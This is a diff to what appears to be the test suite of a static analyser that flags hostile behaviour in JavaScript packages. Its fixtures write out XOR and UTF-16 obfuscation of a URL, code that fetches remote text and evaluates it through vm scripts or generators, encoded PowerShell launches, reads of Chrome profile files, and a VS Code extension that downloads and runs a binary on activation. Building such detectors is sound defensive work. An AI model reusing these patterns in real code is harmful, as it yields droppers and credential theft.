@@ -6,6 +6,7 @@ const hex = (text: string) => Buffer.from(text).toString("hex");
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 const address = "https://api.example/v1";
 const characters = Array.from(address);
+const masked = (key: number) => characters.map((character) => character.charCodeAt(0) ^ key).join(",");
 
 describe("a constant is known however it is written", () => {
   const forms: Readonly<Record<string, string>> = {
@@ -39,6 +40,9 @@ describe("a constant is known however it is written", () => {
         .replaceAll("1", "\u200C"),
     )}].map((c) => (c === "\u200b" ? "0" : "1")).join("").match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join("")`,
     "the text of a function": `(() => { function note() { /*${address}*/ } return note.toString().split("/*")[1].split("*/")[0]; })()`,
+    "a list folded with a key that is a parameter": `((key = 17) => [${characters.map((character) => character.charCodeAt(0) ^ 17).join(",")}].reduce((text, code) => text + String.fromCodePoint(code ^ key), ""))()`,
+    "what a generator yields": `(() => { for (const part of (function* () { yield "${address}"; })()) return part; })()`,
+    "bytes of UTF-16": `Buffer.from(Buffer.from("${address}", "utf16le").toString("base64"), "base64").toString("utf16le")`,
     escapes: `"\\x68\\x74\\x74\\x70\\x73://api.example/v1"`,
   };
   for (const [name, expression] of Object.entries(forms)) {
@@ -61,6 +65,51 @@ describe("a constant is known however it is written", () => {
     const [request] = await effectsOf("request", source);
     assert.deepEqual(request?.subject.texts, ["https://a.example/v1/"]);
     assert.ok(!request.subject.encodings.includes("xor"));
+  });
+
+  test("the same function with another key each time", async () => {
+    const source = `const read = (list, key) => list.map((code) => String.fromCharCode(code ^ key)).join("");
+      fetch(read([${masked(3)}], 3)); fetch(read([${masked(9)}], 9) + "/two");`;
+    const requests = await effectsOf("request", source);
+    assert.deepEqual(
+      requests.map(({ subject }) => subject.texts),
+      [[address], [`${address}/two`]],
+    );
+  });
+
+  test("a key that another file exports", async () => {
+    const codes = characters.map((character) => character.charCodeAt(0) ^ 17);
+    const { effects } = await readFiles({
+      "key.js": "export const key = 17;",
+      "index.js": `import { key } from "./key.js"; fetch([${codes.join(",")}].map((c) => String.fromCharCode(c ^ key)).join(""));`,
+    });
+    assert.deepEqual(onlyEffect(effects, "request").subject.texts, [address]);
+  });
+
+  test("a table of systems, spread into an argument", async () => {
+    const source = `const shells = { win32: ["powershell", "-NoP", "-Enc"], darwin: ["osascript", "-e"] };
+      const [command, ...args] = shells[process.platform];
+      require("child_process").spawn(command, [...args, "cGF5"]);`;
+    const [run] = await effectsOf("run", source);
+    assert.ok(run?.subject.texts.includes("powershell -NoP -Enc cGF5"));
+  });
+
+  test("a path whose middle is another on each system", async () => {
+    const source = `const { join } = require("path"); const home = require("os").homedir();
+      const parts = { darwin: ["Library", "Application Support"], linux: [".config"] }[process.platform];
+      for (const key of ["a", "b"]) require("fs").readFileSync(join(home, ...parts, "Chrome", key));`;
+    const reads = await effectsOf("read", source);
+    const paths = reads.flatMap(({ subject }) => subject.texts);
+    assert.ok(paths.includes("~/Library/Application Support/Chrome/a"));
+    assert.ok(paths.includes("~/.config/Chrome/b") || paths.some((path) => path.startsWith("~/.config")));
+  });
+
+  test("a module that is loaded unless the environment says otherwise", async () => {
+    const { effects } = await readFiles({
+      "en.js": `module.exports = "${address}";`,
+      "index.js": `fetch(require("./" + (process.env.LOCALE || "en")));`,
+    });
+    assert.deepEqual(onlyEffect(effects, "request").subject.texts, [address]);
   });
 
   test("an array of strings that is turned until a sum is right, as obfuscators write it", async () => {
@@ -99,6 +148,9 @@ describe("what the network answers is followed into evaluation", () => {
     Reflect: `fetch("${address}").then((r) => Reflect.construct(Function, [r.body])());`,
     "a timer that takes text": `fetch("${address}").then((r) => setTimeout(r.body, 10));`,
     vm: `fetch("${address}").then((r) => require("vm").runInThisContext(r.body));`,
+    "a script of vm that is handed require": `fetch("${address}").then((r) => new (require("vm").Script)(r.body).runInThisContext()(require));`,
+    "a script of vm in a context with require": `fetch("${address}").then((r) => new (require("vm").Script)(r.body).runInNewContext({ require }));`,
+    "a generator": `(async () => { async function* pages() { for (const n of ["a"]) yield await (await fetch("${address}")).text(); } for await (const page of pages()) eval(page); })();`,
     "a module compiled by hand": `fetch("${address}").then((r) => { const m = new module.constructor(); m._compile(r.body, "x"); });`,
     "a text compiled into this module": `fetch("${address}").then((r) => module._compile(r.body, "x"));`,
     "an event emitter": `const bus = new (require("events"))(); bus.on("ready", (text) => eval(text)); fetch("${address}").then((r) => bus.emit("ready", r.body));`,
@@ -380,6 +432,22 @@ describe("hostile programs", () => {
       "index.js": `function a(x) { return b(a(x)) } function b(x) { return a(b(x)) } a(1); eval(process.env.X);`,
     });
     assert.equal(onlyEffect(effects, "evaluate").via, "eval");
+  });
+
+  test("a program that is fetched into a folder of the editor's, when an extension starts", async () => {
+    const source = `const vscode = require("vscode"); const { join } = require("path");
+      async function get(context) { const file = join(context.globalStorageUri.fsPath, process.platform === "win32" ? "a.exe" : "tool");
+        require("fs").writeFileSync(file, (await fetch("${address}")).body); require("child_process").execFile(file); }
+      module.exports = { activate(context) { get(context); }, other() { fetch("https://b.example"); } };`;
+    const { effects } = await readFiles({ "extension.js": source });
+    const run = effects.find(({ kind }) => kind === "run");
+    const write = effects.find(({ kind }) => kind === "write");
+    assert.deepEqual(run?.subject.texts, write?.subject.texts);
+    assert.equal(run?.time, "load");
+    assert.deepEqual(
+      effects.filter(({ kind }) => kind === "request").map(({ time }) => time),
+      ["load", "dormant"],
+    );
   });
 
   test("a decoder that never ends costs its steps and no more", async () => {
